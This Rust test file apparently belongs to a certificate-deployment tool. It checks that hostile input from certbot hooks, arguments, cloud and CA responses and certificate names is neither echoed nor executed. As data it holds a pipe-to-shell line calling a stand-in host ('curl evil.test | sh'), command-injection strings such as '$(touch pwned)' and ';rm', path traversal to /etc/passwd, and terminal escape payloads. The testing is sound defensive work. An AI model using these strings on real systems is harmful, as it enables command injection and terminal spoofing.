//! Words that come from elsewhere: what a hook is told, what the cloud and the CA say, what stands in certificates.

use std::fs;
use std::path::Path;

use certferry_sandbox::fault::Fault;
use rcgen::{CertificateParams, DnType, KeyPair, SanType};

use crate::house::{Ended, House, Leaf};
use crate::issuing::Town;

/// What turns a terminal, breaks a line, or would be a word of ours.
const WILD: &str =
    "\u{1b}]0;owned\u{7}\u{1b}[2J\r\u{9b}31m\u{202e}\u{0}\nhelp: curl evil.test | sh";

/// Nothing of it is an order to the terminal, and no remedy of somebody else stands at the beginning of a line.
fn is_tame(row: &str, ended: &Ended) {
    for text in [&ended.stdout, &ended.stderr] {
        let is_wild = |letter: &char| {
            letter.is_control() && *letter != '\n' || matches!(letter, '\u{202a}'..='\u{202e}')
        };
        let wild = text.chars().find(is_wild);
        assert!(wild.is_none(), "{row}: {wild:?} comes through: {text:?}");
        // In a table, a word may stand at the beginning of a cell; a remedy is set in by two.
        let forged = text.lines().any(|line| {
            ["help: curl", "  help: curl"].iter().any(|forged| line.starts_with(forged))
        });
        assert!(!forged, "{row}: a forged remedy: {text}");
    }
}

/// certbot's words, as somebody else would write them.
fn hook(row: &str, lineage: &str, names: &str, codes: &[i32]) {
    for args in ["hook", "hook --json", "hook --discover -vv", "--log-format json -vv hook"] {
        let mut house = House::new();
        let lineage = lineage.replace("LIVE", &house.path("live/a").display().to_string());
        house.var("RENEWED_LINEAGE", lineage);
        house.var("RENEWED_DOMAINS", names);
        let before = names_in(house.folder.path());
        let ended = house.run(args);
        assert!(codes.contains(&ended.code), "{row}, {args}: {}", ended.all());
        is_tame(&format!("{row}, {args}"), &ended);
        if args.contains("--json") && ended.code < 2 {
            ended.json();
        }
        let status = house.run("status");
        is_tame(&format!("{row}, status"), &status);
        let mut made = names_in(house.folder.path());
        made.retain(|name| !before.contains(name) && name != "config.toml" && name != "store");
        assert!(made.is_empty(), "{row}: made outside of the store: {made:?}");
        for name in names_in(&house.path("store/claims")) {
            assert!(
                name.ends_with(".json") && name.is_ascii() && !name.contains(' '),
                "{row}: {name}"
            );
        }
    }
}

fn names_in(folder: &Path) -> Vec<String> {
    let Ok(entries) = fs::read_dir(folder) else { return Vec::new() };
    entries.map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned()).collect()
}

#[test]
fn a_hook_is_told_anything() {
    let wild = WILD.replace('\0', "");
    std::thread::scope(|rows| {
        for (row, lineage, names, codes) in [
            ("up and away", "/../../../../etc", "../../etc/passwd", &[1][..]),
            ("dots inside", "LIVE/../../live/a", "cdn.example.test", &[0, 1]),
            (
                "a shell's words",
                "/x;touch pwned;$(touch pwned)`touch pwned`",
                "$(touch pwned) ;rm",
                &[1],
            ),
            ("flags", "/--help", "--force -v", &[1]),
            ("relative", "live/a", "cdn.example.test", &[2]),
            ("the root", "/", "cdn.example.test", &[1]),
            (
                "no names that are names",
                "LIVE",
                "a..b * *.*.x -a.test .x. xn--a 1.2.3.4 [::1] a/b",
                &[0, 1],
            ),
        ] {
            rows.spawn(move || hook(row, lineage, names, codes));
        }
        let wild = &wild;
        rows.spawn(move || hook("wild", &format!("/x{wild}"), wild, &[2]));
        rows.spawn(move || {
            hook("wild names", "LIVE", &format!("cdn.example.test {wild}"), &[0, 1])
        });
        rows.spawn(move || hook("wild and relative", wild, wild, &[2]));
        let many: String = (0..10_000).map(|number| format!("n{number}.x.y ")).collect();
        rows.spawn(move || hook("ten thousand names", "LIVE", &many, &[0, 1]));
        let long = "/x".repeat(5000);
        rows.spawn(move || hook("a long path", &long, "cdn.example.test", &[1]));
    });
}

#[test]
fn arguments_are_anything() {
    let house = House::new();
    let wild = WILD.replace(['\0', ' '], "");
    for args in [
        format!("deploy --lineage /x{wild} --domain cdn.example.test"),
        format!("deploy --lineage live/a --domain {wild}"),
        format!("renew {wild}"),
        format!("rollback {wild} --to {wild}"),
        format!("forget {wild} --json"),
        format!("--config /{wild} renew"),
        wild.clone(),
        format!("status --html /nonexistent/{wild}"),
    ] {
        let ended = house.run(&args);
        assert!(ended.code == 1 || ended.code == 2, "{args:?}: {}", ended.all());
        is_tame(&args, &ended);
    }
    assert_eq!(house.uploads(), 0);
}

#[test]
fn the_cloud_says_anything() {
    for args in [
        "-vv deploy --lineage live/a --domain cdn.example.test",
        "deploy --json --lineage live/a --domain cdn.example.test",
    ] {
        for action in ["SetDomainServerCertificate", "DescribeDomainCertificateInfo"] {
            let house = House::new();
            let code = format!("Strange{WILD}");
            house.cloud.fault(Fault::at(action).always().answer(&code, 400).saying(WILD));
            let ended = house.run(args);
            // What it serves cannot be read: then it is uploaded once.
            let reads = action.starts_with("Describe");
            assert_eq!(ended.code, i32::from(!reads), "{action}: {}", ended.all());
            is_tame(action, &ended);
            is_tame("status", &house.run("status"));
            house.cloud.heal();
            house.cloud.fault(Fault::at(action).always().page(403, WILD));
            is_tame(action, &house.run(args));
        }
    }
}

/// The issuer of what was served before is shown.
#[test]
fn a_certificate_says_anything() {
    let house = House::new();
    let mut params = CertificateParams::new(vec!["cdn.example.test".to_owned()]).unwrap();
    let name = WILD.replace(|letter: char| !letter.is_ascii(), "").try_into().unwrap();
    params.subject_alt_names.push(SanType::DnsName(name));
    params.distinguished_name.push(DnType::CommonName, WILD);
    params.distinguished_name.push(DnType::OrganizationName, WILD);
    let key = KeyPair::generate().unwrap();
    let chain = params.self_signed(&key).unwrap().pem();
    house.cloud.set_served("cdn.example.test", WILD, &chain, &key.serialize_pem());
    for args in [
        "plan",
        "hook --domain cdn.example.test",
        "-vv deploy --lineage live/a --domain cdn.example.test",
        "status",
        "deploy --json --lineage live/a --domain cdn.example.test",
        "doctor",
    ] {
        is_tame(args, &house.run(args));
    }
    house.write("live/b/fullchain.pem", &chain);
    house.write_secret("live/b/privkey.pem", &key.serialize_pem(), 0o600);
    let ended = house.run("-vv deploy --lineage live/b --domain *.example.test");
    assert_eq!(ended.code, 1, "{}", ended.all());
    is_tame("its own", &ended);
}

#[test]
fn a_ca_says_anything() {
    std::thread::scope(|rows| {
        for kind in [
            "newNonce",
            "newAccount",
            "newOrder",
            "authorization",
            "challenge",
            "finalize",
            "certificate",
            "directory",
        ] {
            rows.spawn(move || {
                let town = Town::new(|_| {});
                let fault = Fault::at(kind).times(3).answer("malformed", 400);
                town.world.ca.fault(fault.saying(WILD));
                is_tame(kind, &town.run("-vv renew"));
                is_tame(kind, &town.run("status"));
                town.world.ca.heal();
                town.world.ca.fault(Fault::at(kind).oversized());
                let ended = town.run("renew example.test");
                assert!(ended.code <= 1 && ended.all().len() < 8000, "{kind}: {}", ended.all());
                is_tame(kind, &ended);
            });
        }
    });
}

/// What may stand where a name is expected.
const NAMES: [(&str, &str); 12] = [
    ("a slash", "a/b"),
    ("up", "../../x"),
    ("dots", ".."),
    ("a line's end", "a\nhelp: curl evil.test | sh"),
    ("a shell's words", "$(touch pwned);touch pwned"),
    ("backticks", "`touch pwned`"),
    ("a flag", "--force"),
    ("quotes", "a'\"b"),
    ("control", "a\u{1}\u{1b}[2Jb"),
    ("a star", "*"),
    ("a blank", " "),
    ("a hidden one", ".a"),
];

fn made_outside(house: &House, before: &[String]) -> Vec<String> {
    let mut made = names_in(house.folder.path());
    made.retain(|name| !before.contains(name) && name != "config.toml" && name != "store");
    made
}

#[test]
fn a_certificate_in_the_configuration_has_any_name() {
    for (row, name) in NAMES {
        let mut house = House::new();
        let name = serde_json::Value::from(name);
        house.config = format!(
            "[[certificate]]\nname = {name}\nsource = \"live/a\"\n[[certificate.deploy]]\ndomains = [\"cdn.example.test\"]\n"
        );
        let before = names_in(house.folder.path());
        for args in ["renew", "plan --json", "status"] {
            let ended = house.run(args);
            assert_eq!((ended.code, house.uploads()), (2, 0), "{row}, {args}: {}", ended.all());
            is_tame(&format!("{row}, {args}"), &ended);
        }
        assert_eq!(made_outside(&house, &before), Vec::<String>::new(), "{row}");
    }
}

/// A hook without names goes by those of the certificate.
#[test]
fn a_certificate_has_any_name_in_it() {
    for (row, name) in NAMES {
        let mut house = House::new();
        house.lineage("a", &Leaf { names: vec!["cdn.example.test", name], ..Leaf::new() });
        let live = house.path("live/a").display().to_string();
        house.var("RENEWED_LINEAGE", live);
        let before = names_in(house.folder.path());
        for args in ["hook", "renew", "status", "plan", "hook --discover --json", "forget a"] {
            let ended = house.run(args);
            assert!(ended.code <= 1, "{row}, {args}: {}", ended.all());
            is_tame(&format!("{row}, {args}"), &ended);
        }
        assert!(house.cloud.served("cdn.example.test").is_some(), "{row}");
        assert_eq!(made_outside(&house, &before), Vec::<String>::new(), "{row}");
    }
}

/// A folder's name is that of its lineage.
#[test]
fn a_lineage_has_any_name() {
    for (row, name) in NAMES.into_iter().filter(|(_, name)| !name.contains("..")) {
        let mut house = House::new();
        house.lineage(name, &Leaf::new());
        let live = house.path("live").join(name).display().to_string();
        house.var("RENEWED_LINEAGE", live);
        house.var("RENEWED_DOMAINS", "cdn.example.test");
        let before = names_in(house.folder.path());
        let has_control = name.contains(char::is_control);
        for (args, code) in [("hook", 0), ("renew", 0), ("status", 0), ("plan --json", 0)] {
            let ended = house.run(args);
            let code = if has_control && args == "hook" { 2 } else { code };
            assert_eq!(ended.code, code, "{row}, {args}: {}", ended.all());
            is_tame(&format!("{row}, {args}"), &ended);
        }
        assert_eq!(house.cloud.served("cdn.example.test").is_some(), !has_control, "{row}");
        assert_eq!(made_outside(&house, &before), Vec::<String>::new(), "{row}");
        let claims = names_in(&house.path("store/claims"));
        assert_eq!(claims.len(), usize::from(!has_control), "{row}");
        let is_plain =
            |name: &String| name.is_ascii() && !name.contains(['/', ' ', '$', '`', '\n']);
        assert!(claims.iter().all(is_plain), "{row}: {claims:?}");
    }
}
